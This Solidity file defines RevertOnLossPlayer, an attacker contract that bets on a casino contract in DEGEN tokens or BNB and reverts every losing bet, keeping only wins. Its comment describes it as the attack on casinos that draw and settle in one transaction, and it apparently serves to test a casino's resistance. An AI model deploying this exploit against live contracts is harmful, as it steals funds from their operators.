// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {ICasino} from "../interfaces/ICasino.sol";

/// @title RevertOnLossPlayer
/// @notice Plays, and reverts the transaction unless its balance has grown: the attack that breaks
/// casinos which draw and settle in one transaction.
contract RevertOnLossPlayer {
    ICasino private immutable _casino;
    IERC20 private immutable _degen;

    error RevertOnLossPlayer_NotRicher();

    constructor(address casino, address degen) {
        _casino = ICasino(casino);
        _degen = IERC20(degen);
        _degen.approve(casino, type(uint256).max);
    }

    receive() external payable {}

    function playDegen(uint256 betAmount) external {
        uint256 before = _degen.balanceOf(address(this));
        _casino.playGame(betAmount, 0);
        if (_degen.balanceOf(address(this)) <= before) revert RevertOnLossPlayer_NotRicher();
    }

    function playBnb() external payable {
        uint256 before = address(this).balance - msg.value;
        _casino.playGame{value: msg.value}(msg.value, 0);
        if (address(this).balance <= before) revert RevertOnLossPlayer_NotRicher();
    }
}
